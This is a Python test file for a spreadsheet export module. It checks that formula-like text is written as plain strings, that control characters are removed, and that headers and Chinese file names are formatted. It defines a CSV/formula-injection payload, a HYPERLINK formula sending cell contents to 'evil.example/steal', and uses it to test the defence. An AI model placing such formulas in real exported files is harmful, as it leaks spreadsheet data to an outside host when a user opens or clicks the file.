"""The one cell writer: formula-like text stays text, control characters never break an export (issue 17
items 2 and 3, R9.3)."""

from __future__ import annotations

import io

from openpyxl import load_workbook

from sheyin.common.excel import csv_bytes, put
from sheyin.common.exports import _xlsx_file
from sheyin.common.listing import Column, rows_of

EVIL = '=HYPERLINK("http://evil.example/steal?d="&B2&C2,"查看详情")'


def xlsx_response(filename: str, title: str, columns: list[Column], rows: list[str]):  # type: ignore[no-untyped-def]
    """The file a list export writes (export_response adds the audit and the job)."""
    return _xlsx_file(filename, title, columns, rows_of(columns, rows))


def test_it_writes_a_formula_like_comment_as_text_not_a_formula() -> None:
    resp = xlsx_response("ratings", "评价明细", [Column("评价内容", lambda r: r)], [EVIL, "+1", "@x", "-2+3"])
    ws = load_workbook(io.BytesIO(resp.content)).active
    values = [(c.value, c.data_type) for c in ws["A"][1:]]
    assert values == [(EVIL, "s"), ("+1", "s"), ("@x", "s"), ("-2+3", "s")]


def test_it_removes_control_characters_instead_of_failing() -> None:
    resp = xlsx_response("tickets", "问题工单", [Column("标题", lambda r: r)], ["终端\u000b故障\x00"])
    ws = load_workbook(io.BytesIO(resp.content)).active
    assert ws["A2"].value == "终端故障"


def test_it_formats_and_freezes_the_header_and_names_the_file_in_chinese() -> None:
    resp = xlsx_response("ratings", "评价明细", [Column("评价内容", lambda r: r)], ["好"])
    ws = load_workbook(io.BytesIO(resp.content)).active
    assert ws.freeze_panes == "A2"
    assert ws["A1"].font.bold
    disposition = resp["Content-Disposition"]
    assert 'filename="ratings-' in disposition
    assert "filename*=UTF-8''%E8%AF%84%E4%BB%B7%E6%98%8E%E7%BB%86-" in disposition


def test_it_keeps_ordinary_worksheet_cells_as_text_too() -> None:
    from openpyxl import Workbook

    wb = Workbook()
    put(wb.active, 1, 1, EVIL)
    buf = io.BytesIO()
    wb.save(buf)
    assert load_workbook(buf).active["A1"].data_type == "s"


def test_it_quotes_formula_like_text_in_csv() -> None:
    body = csv_bytes(["a"], [[EVIL]]).decode("utf-8-sig")
    assert body.splitlines()[1].startswith("\"'=HYPERLINK")
